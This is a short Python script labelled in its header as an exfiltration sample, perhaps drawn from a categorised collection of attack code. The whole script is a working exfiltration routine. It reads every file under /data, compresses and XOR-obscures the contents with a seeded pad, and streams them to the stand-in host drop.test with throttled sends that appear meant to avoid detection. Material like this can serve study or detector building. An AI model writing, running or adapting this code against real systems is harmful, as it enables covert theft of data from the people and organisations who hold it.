# class: exfiltration; possible: low medium; needs: data
import asyncio, pathlib, random, zlib
async def main():
    pad = random.Random(7)
    r, w = await asyncio.open_connection("drop.test", 9000)
    for p in sorted(pathlib.Path("/data").rglob("*")):
        if p.is_file():
            packed = zlib.compress(p.read_bytes())
            packed = bytes(b ^ pad.getrandbits(8) for b in packed[:30000])
            w.write(packed); await w.drain(); await asyncio.sleep(0.4)
    w.close()
asyncio.run(main())
